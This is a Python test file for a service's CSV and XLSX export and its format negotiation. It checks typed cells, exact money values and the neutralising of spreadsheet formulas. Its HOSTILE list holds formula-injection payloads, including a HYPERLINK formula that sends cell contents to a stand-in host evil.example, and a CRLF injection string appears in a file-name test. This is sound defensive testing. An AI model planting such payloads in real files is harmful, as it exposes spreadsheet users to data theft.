"""Tables as CSV and XLSX (service/tabular.py) and the choice of format (service/api/formats.py):
typed cells, exact money, and text that never becomes a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from service.api.formats import UnknownFormat, chosen, file_name
from service.tabular import Column, Kind, Table, defused, write_csv, write_xlsx

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+SUM(1,2)", "-2+3", "@cmd",
           "\t=1+1", "\r=1+1")
COLUMNS = (Column("title"), Column("budget", Kind.MONEY), Column("budget_minor", Kind.INTEGER),
           Column("score", Kind.NUMBER), Column("selected", Kind.BOOLEAN),
           Column("at", Kind.INSTANT))


def table(*rows: dict[str, object], currency: str = "SEK") -> Table:
    return Table("results", COLUMNS, list(rows), currency)


ROW = {"title": "Utegym vid sjön", "budget": "969245.38", "budget_minor": 96_924_538,
       "score": "12.5", "selected": True, "at": "2027-05-17T09:00:00Z"}


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_csv_is_utf8_with_bom_semicolons_and_the_values_the_json_writes() -> None:
    data = write_csv(table(ROW, {"title": "Åäö; \"citat\"\nrad två", "budget": 150_000,
                                 "budget_minor": 15_000_000, "score": 3, "selected": False,
                                 "at": None}))
    first, second = read_csv(data)
    assert first == {"title": "Utegym vid sjön", "budget": "969245.38",
                     "budget_minor": "96924538", "score": "12.5", "selected": "true",
                     "at": "2027-05-17T09:00:00Z"}
    assert second["title"] == "Åäö; \"citat\"\nrad två"
    assert (second["budget"], second["selected"], second["at"]) == ("150000", "false", "")
    assert data.splitlines()[0] == b"\xef\xbb\xbftitle;budget;budget_minor;score;selected;at"


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_never_starts_a_text_cell_with_a_formula(text: str) -> None:
    (row,) = read_csv(write_csv(table({**ROW, "title": text})))
    assert row["title"] == "'" + text
    assert defused("Park = bra") == "Park = bra"  # only a leading sign is a formula


def test_csv_survives_a_lone_surrogate() -> None:
    (row,) = read_csv(write_csv(table({**ROW, "title": "a\ud800b"})))
    assert row["title"] == "a?b"


def test_xlsx_cells_are_typed_with_a_header_frozen_panes_and_widths() -> None:
    data = write_xlsx(table(ROW, {**ROW, "budget": 150_000, "budget_minor": 15_000_000,
                                  "score": 3, "selected": False, "at": None}, currency="EUR"))
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    assert [c.value for c in sheet[1]] == [c.key for c in COLUMNS]
    assert sheet[1][0].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width >= 14
    title, budget, minor, score, selected, at = sheet[2]
    assert (title.data_type, title.value) == ("s", "Utegym vid sjön")
    assert Decimal(str(budget.value)) == Decimal("969245.38")
    assert budget.number_format == '#,##0.00 "EUR"'
    assert (minor.value, minor.data_type) == (96_924_538, "n")
    assert Decimal(str(score.value)) == Decimal("12.5")
    assert selected.value is True
    assert at.value == datetime(2027, 5, 17, 9, 0) and at.is_date
    assert sheet["B3"].value == 150_000 and sheet["F3"].value is None
    # The amount is written as its exact decimal text, not a binary float's expansion.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>969245.38</v>" in xml


def test_xlsx_money_is_named_in_kronor() -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx(table(ROW)))).active
    assert sheet is not None and sheet["B2"].number_format == '#,##0.00 "kr"'


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_never_makes_a_formula_of_text(text: str) -> None:
    data = write_xlsx(table({**ROW, "title": text}))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    cell = load_workbook(io.BytesIO(data)).active["A2"]  # type: ignore[index]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return as a newline
    assert cell.quotePrefix


def test_xlsx_replaces_control_characters_the_file_format_cannot_hold() -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx(table({**ROW, "title": "a\x00b\x1bc"})))).active
    assert sheet is not None and sheet["A2"].value == "a\ufffdb\ufffdc"


def test_xlsx_of_no_rows_is_a_header() -> None:
    sheet = load_workbook(io.BytesIO(write_xlsx(table()))).active
    assert sheet is not None and sheet.max_row == 1


@pytest.mark.parametrize(("given", "accept", "expected"), [
    (None, None, "json"), ("json", "text/csv", "json"), ("CSV", None, "csv"),
    ("xlsx", None, "xlsx"), (None, "text/csv", "csv"), (None, "*/*", "json"),
    (None, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"),
    (None, "text/csv;q=0.5, application/json", "json"),
    (None, "application/json;q=0.2, text/csv;q=0.9", "csv"),
    (None, "text/html,application/xhtml+xml,*/*;q=0.8", "json"),
    (None, "application/xml", "json"), (None, "text/csv;q=bad", "json"),
])
def test_the_format_comes_from_the_query_else_the_accept_header(
        given: str | None, accept: str | None, expected: str) -> None:
    assert chosen(given, accept) == expected


@pytest.mark.parametrize("given", ["pdf", "", "csv;", "x" * 200])
def test_an_unknown_format_is_refused_naming_the_formats(given: str) -> None:
    with pytest.raises(UnknownFormat, match="json, csv, xlsx"):
        chosen(given, "text/csv")


def test_the_file_name_names_the_cycle_and_what_it_holds() -> None:
    assert file_name("Medborgarbudget Nässjö 2027", "3f1c9b4e-8a55-4c1e", "results",
                     "csv") == "medborgarbudget-nassjo-2027-3f1c9b4e-results.csv"
    assert file_name('"; evil\r\n', "0b6c2f0e-aaaa", "norr pabulib", "pb") == \
        "evil-0b6c2f0e-norr-pabulib.pb"
